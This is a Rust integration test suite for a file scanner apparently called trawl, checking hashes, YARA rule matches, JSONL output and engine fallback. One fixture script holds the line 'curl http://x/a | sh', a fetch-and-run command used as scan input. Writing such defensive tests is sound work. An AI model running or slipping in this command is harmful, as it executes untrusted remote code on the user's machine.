use std::collections::BTreeMap;
use std::fs;

use crate::harness::*;

#[test]
fn scan_stores_one_result_per_file_per_worker_with_correct_hashes_and_matches() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    fs::create_dir_all(data.join("nested/deeper")).unwrap();
    fs::write(data.join("eicar.com"), eicar()).unwrap();
    fs::write(data.join("empty.bin"), b"").unwrap();
    fs::write(data.join("note.txt"), b"just some text\n").unwrap();
    for i in 0..12u64 {
        let sub = if i % 2 == 0 {
            "nested"
        } else {
            "nested/deeper"
        };
        // Sizes straddle the in-process transport's inline limit (64 KiB).
        fs::write(
            data.join(sub).join(format!("blob{i}")),
            noise(i, 1000 + i as usize * 9000),
        )
        .unwrap();
    }
    let db = dir.path().join("out.db");
    let jsonl = dir.path().join("out.jsonl");
    let out = run(trawl()
        .arg("scan")
        .arg(&data)
        .arg("--rules")
        .arg(repo().join("rules"))
        .arg("--db")
        .arg(&db)
        .arg("--jsonl")
        .arg(&jsonl));
    assert!(out.status.success(), "{}", stderr(&out));
    let summary = stdout(&out);
    assert!(summary.contains("scanned 15 files"), "{summary}");
    assert!(
        summary.contains("files/s") && summary.contains("MB/s"),
        "{summary}"
    );
    assert!(summary.contains("1 with rule matches"), "{summary}");

    let rows = rows(&db);
    let mut per_file: BTreeMap<String, Vec<&Row>> = BTreeMap::new();
    for r in &rows {
        per_file.entry(r.path.clone().unwrap()).or_default().push(r);
    }
    assert_eq!(per_file.len(), 15);
    for (path, results) in &per_file {
        let mut workers: Vec<&str> = results.iter().map(|r| r.worker.as_str()).collect();
        workers.sort();
        assert_eq!(workers, ["filetype", "hash", "yara"], "{path}");
        assert!(results.iter().all(|r| r.outcome == "ok"), "{path}");
        let hash = results.iter().find(|r| r.worker == "hash").unwrap();
        let file = std::path::Path::new(path);
        assert_eq!(
            hash.data["sha256"],
            coreutils_digest("sha256sum", file),
            "{path}"
        );
        assert_eq!(hash.data["md5"], coreutils_digest("md5sum", file), "{path}");
        assert_eq!(hash.sha256, coreutils_digest("sha256sum", file), "{path}");
        assert_eq!(
            hash.data["sha1"],
            coreutils_digest("sha1sum", file),
            "{path}"
        );
        // md5, sha1 and sha256 unless more are asked for.
        let keys: Vec<&String> = hash.data.as_object().unwrap().keys().collect();
        assert_eq!(keys, ["md5", "sha1", "sha256"], "{path}");
    }

    // The fuzzy hashes on request, ssdeep as its own command line computes it.
    let fuzzy = dir.path().join("fuzzy.db");
    let out = run(trawl()
        .arg("scan")
        .arg(&data)
        .args([
            "--workers",
            "hash",
            "--hashes",
            "sha512,ssdeep,tlsh",
            "--db",
        ])
        .arg(&fuzzy));
    assert!(out.status.success(), "{}", stderr(&out));
    let rows_fuzzy = crate::harness::rows(&fuzzy);
    assert_eq!(rows_fuzzy.len(), 15);
    for r in &rows_fuzzy {
        let file = std::path::Path::new(r.path.as_deref().unwrap());
        assert_eq!(r.data["ssdeep"], ssdeep_cli(file), "{file:?}");
        assert_eq!(
            r.data["sha512"],
            coreutils_digest("sha512sum", file),
            "{file:?}"
        );
        let name = file.file_name().unwrap().to_string_lossy();
        // TLSH needs 50 bytes or more.
        if fs::metadata(file).unwrap().len() >= 50 {
            let tlsh = r.data["tlsh"].as_str().unwrap_or_default();
            assert!(tlsh.starts_with("T1") && tlsh.len() == 72, "{name}: {tlsh}");
        } else {
            assert!(r.data.get("tlsh").is_none(), "{name}: {:?}", r.data);
        }
    }

    let yara_hits: Vec<&Row> = rows
        .iter()
        .filter(|r| r.worker == "yara" && r.data["match_count"].as_u64().unwrap() > 0)
        .collect();
    assert_eq!(yara_hits.len(), 1);
    assert_eq!(yara_hits[0].filename.as_deref(), Some("eicar.com"));
    assert_eq!(yara_hits[0].data["matches"][0]["rule"], "EICAR_Test_File");

    let types: BTreeMap<String, String> = rows
        .iter()
        .filter(|r| r.worker == "filetype")
        .map(|r| {
            (
                r.filename.clone().unwrap(),
                r.data["mime"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(types["empty.bin"], "application/x-empty");
    assert_eq!(types["note.txt"], "text/plain");

    // The JSON lines carry the same results.
    let lines = fs::read_to_string(&jsonl).unwrap();
    let events: Vec<serde_json::Value> = lines
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events.len(), 45);
    assert!(events
        .iter()
        .any(|e| e["worker"]["name"] == "yara"
            && e["data"]["matches"][0]["rule"] == "EICAR_Test_File"));

    // A rescan upserts into the same database: new payload ids, new rows, same shape.
    let again = run(trawl()
        .arg("scan")
        .arg(data.join("eicar.com"))
        .arg("--rules")
        .arg(repo().join("rules"))
        .arg("--db")
        .arg(&db)
        .arg("-q"));
    assert!(again.status.success(), "{}", stderr(&again));
    assert_eq!(crate::harness::rows(&db).len(), 48);
}

#[test]
fn worker_selection_and_jsonl_to_stdout() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("a"), b"hello").unwrap();
    let out = run(trawl().current_dir(dir.path()).args([
        "scan",
        "a",
        "--workers",
        "hash",
        "--no-db",
        "--jsonl",
        "-",
    ]));
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1, "only results on stdout: {text}");
    assert_eq!(lines[0]["worker"]["name"], "hash");
    assert_eq!(
        lines[0]["data"]["sha256"],
        "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"
    );
    assert!(
        stderr(&out).contains("scanned 1 files"),
        "summary goes to stderr"
    );
    assert!(!dir.path().join("trawl.db").exists());
}

#[test]
fn every_shipped_config_passes_config_check() {
    let mut checked = 0;
    for entry in fs::read_dir(repo().join("config")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|x| x == "toml") {
            let out = run(trawl().args(["config", "check"]).arg(&path));
            assert!(out.status.success(), "{}: {}", path.display(), stderr(&out));
            assert!(stdout(&out).contains(": ok"));
            checked += 1;
        }
    }
    assert!(checked >= 1);
}

#[test]
fn shipped_rules_pass_rules_check() {
    let out = run(trawl().args(["rules", "check"]).arg(repo().join("rules")));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("rules in 3 file(s)"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn a_reader_that_goes_away_does_not_hold_the_scan() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    fs::create_dir(&data).unwrap();
    for i in 0..2000u32 {
        fs::write(data.join(format!("f{i:04}")), i.to_le_bytes()).unwrap();
    }
    // `trawl scan --jsonl - | head -n 1`
    let log = dir.path().join("stderr.log");
    let mut child = trawl()
        .current_dir(dir.path())
        .args([
            "scan",
            "data",
            "--workers",
            "hash",
            "--db",
            "out.db",
            "--jsonl",
            "-",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
        &mut first,
    )
    .unwrap();
    assert!(first.contains("\"hash\""), "{first}");
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        assert!(
            started.elapsed() < std::time::Duration::from_secs(120),
            "the scan waits forever for a closed standard output"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    assert!(child.wait().unwrap().success());
    let said = fs::read_to_string(&log).unwrap();
    assert!(!said.contains("panicked"), "{said}");
    assert_eq!(
        said.matches("standard output is closed").count(),
        1,
        "said once: {said}"
    );
    assert_eq!(
        rows(&dir.path().join("out.db")).len(),
        2000,
        "the other store got everything"
    );
}

/// Rule names per file name, from `trawl scan --jsonl -` with `engine`.
fn matches_with(
    engine: &str,
    data: &std::path::Path,
    rules: &std::path::Path,
) -> (BTreeMap<String, Vec<String>>, String) {
    let out = run(trawl()
        .arg("scan")
        .arg(data)
        .arg("--rules")
        .arg(rules)
        .args([
            "--workers",
            "yara",
            "--no-db",
            "--jsonl",
            "-",
            "--engine",
            engine,
        ]));
    assert!(out.status.success(), "{engine}: {}", stderr(&out));
    let mut found = BTreeMap::new();
    let mut version = String::new();
    for line in stdout(&out).lines() {
        let r: serde_json::Value = serde_json::from_str(line).unwrap();
        version = r["worker"]["version"].as_str().unwrap().to_owned();
        let mut rules: Vec<String> = r["data"]["matches"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["rule"].as_str().unwrap().to_owned())
            .collect();
        rules.sort();
        found.insert(r["payload"]["filename"].as_str().unwrap().to_owned(), rules);
    }
    (found, version)
}

#[test]
fn the_engine_is_chosen_on_the_command_line_and_named_in_each_result() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    fs::create_dir_all(&data).unwrap();
    fs::write(data.join("eicar.com"), eicar()).unwrap();
    fs::write(data.join("run.sh"), b"#!/bin/sh\ncurl http://x/a | sh\n").unwrap();
    fs::write(data.join("sh.bin"), fs::read("/bin/sh").unwrap()).unwrap();
    fs::write(data.join("note.txt"), b"nothing to see\n").unwrap();
    let rules = repo().join("rules");
    let (libyara, lv) = matches_with("libyara", &data, &rules);
    let (yara_x, xv) = matches_with("yara-x", &data, &rules);
    let (auto, av) = matches_with("auto", &data, &rules);
    assert_eq!(libyara.len(), 4);
    assert!(libyara.values().any(|r| !r.is_empty()), "{libyara:?}");
    assert_eq!(libyara, yara_x);
    assert_eq!(yara_x, auto);
    assert!(lv.ends_with("libyara-4.5.5"), "{lv}");
    assert!(xv.contains("yara-x"), "{xv}");
    assert_eq!(av, xv, "auto runs YARA-X on rules it compiles");

    // Rules YARA-X refuses: auto falls back and says why, yara-x refuses.
    let old = dir.path().join("old.yar");
    fs::write(
        &old,
        "rule Old {\n  condition:\n    entrypoint >= 0 and filesize > 0\n}\n",
    )
    .unwrap();
    let check = run(trawl().args(["rules", "check"]).arg(&old));
    assert!(check.status.success(), "{}", stderr(&check));
    let said = stdout(&check);
    assert!(said.contains("engine libyara"), "{said}");
    assert!(
        said.contains("old.yar:3:"),
        "why, with file and line: {said}"
    );
    let (found, version) = matches_with("auto", &data, &old);
    assert!(version.ends_with("libyara-4.5.5"), "{version}");
    // entrypoint is defined for executables only.
    assert_eq!(found["sh.bin"], ["Old"]);
    assert_eq!(found.values().filter(|r| !r.is_empty()).count(), 1);
    let refused = run(trawl()
        .arg("scan")
        .arg(&data)
        .arg("--rules")
        .arg(&old)
        .args(["--engine", "yara-x", "--workers", "yara", "-q", "--db"])
        .arg(dir.path().join("refused.db")));
    assert!(!refused.status.success());
    assert!(
        stderr(&refused).contains("old.yar:3:"),
        "{}",
        stderr(&refused)
    );
}
